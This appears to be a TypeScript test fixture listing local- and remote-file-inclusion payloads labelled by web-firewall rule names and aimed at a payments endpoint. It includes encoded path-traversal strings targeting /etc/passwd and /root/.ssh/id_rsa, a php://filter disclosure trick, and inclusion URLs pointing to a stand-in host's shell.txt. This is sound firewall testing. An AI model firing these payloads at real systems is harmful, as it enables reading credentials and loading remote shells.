import { ask, askWith, attacks, describedAs, pay, type Attack } from './request.ts';

const inQuery = (queries: readonly string[]) =>
  Object.fromEntries(queries.map((query) => [`query: ${query}`, ask(query)]));
const inPath = (paths: readonly string[]) => Object.fromEntries(paths.map((path) => [`path: ${path}`, { path }]));

/** Files of the server (LFI, path traversal), and files from elsewhere (RFI). */
export const fileInclusion: readonly Attack[] = [
  ...attacks(
    'GenericLFI_QUERYARGUMENTS',
    inQuery([
      'file=../../../../etc/hostname',
      'file=..%2f..%2f..%2fetc%2fhostname',
      'file=%2e%2e%2f%2e%2e%2fsecret',
      'file=..%252f..%252fsecret',
      'file=%252e%252e%252fsecret',
      'file=..%25252f..%25252fsecret',
      'file=..%5c..%5cwindows%5cwin.ini',
      'file=....//....//secret',
      'file=..%c0%af..%c0%afsecret',
      'file=/etc/passwd%00.png',
      'file=C:%5CWindows%5CSystem32%5Cconfig',
      'page=php://filter/convert.base64-encode/resource=index',
      'file=file:///srv/secret',
    ]),
  ),
  ...attacks(
    'GenericLFI_URIPATH',
    inPath([
      '/payments/..%2f..%2fsecret',
      '/payments/../../../secret',
      '/payments/%2e%2e/%2e%2e/secret',
      '/payments/..%252f..%252fsecret',
      '/payments/..;/manager',
      '/payments/..%5c..%5csecret',
    ]),
  ),
  ...attacks('GenericLFI_BODY', {
    'body: traversal': describedAs('lfi traversal', '../../../../etc/hostname'),
    'body: encoded traversal': describedAs('lfi encoded', '..%2f..%2f..%2fsecret'),
    'body: backslashes': describedAs('lfi backslashes', '..\\..\\..\\boot.ini'),
    'body: passwords of the system': pay('lfi passwords', { metadata: { template: '/etc/passwd' } }),
    'body: in a receipt name': pay('lfi receipt', { metadata: { receipt: 'receipts/../../other' } }),
  }),
  ...attacks(
    'RestrictedExtensions_URIPATH',
    inPath([
      '/payments/debug.log',
      '/payments/php.ini',
      '/payments/backup.sql',
      '/payments/app.config',
      '/payments/id.bak',
    ]),
  ),
  ...attacks(
    'RestrictedExtensions_QUERYARGUMENTS',
    inQuery(['file=server.log', 'file=my.ini', 'file=dump.sql', 'tpl=run.ps1']),
  ),
  ...attacks(
    'LFI_QUERYSTRING',
    inQuery(['file=/proc/version', 'file=%2fproc%2fcpuinfo', 'file=/var/log/syslog', 'file=/etc/ssh/sshd_config']),
  ),
  ...attacks('LFI_URIPATH', inPath(['/payments/%2fproc%2fversion', '/proc/cpuinfo', '/payments/%2fetc%2fhosts'])),
  ...attacks('LFI_HEADER', {
    'header: a file of the system': askWith({ 'x-template': '/proc/version' }),
    'header: secrets of a user': askWith({ referer: 'file=/root/.ssh/id_rsa' }),
  }),
  ...attacks('GenericRFI_QUERYARGUMENTS', {
    ...inQuery([
      'page=http://203.0.113.5/shell.txt',
      'page=https%3A%2F%2F203.0.113.5%2Fshell',
      'page=ftp://user:secret@203.0.113.5/x',
      'page=FTPS://203.0.113.5/x',
      'page=file://203.0.113.5/share/x',
      'page=http:%252f%252f203.0.113.5/x',
    ]),
  }),
  ...attacks('GenericRFI_BODY', {
    'body: an address on the net': describedAs('rfi body', 'see http://203.0.113.5/shell.txt'),
    'body: a callback': pay('rfi callback', { metadata: { callback: 'https://198.51.100.7:8443/hook' } }),
  }),
  ...attacks('GenericRFI_URIPATH', { 'path: an address on the net': { path: '/payments/http:%2f%2f203.0.113.5%2fx' } }),
];
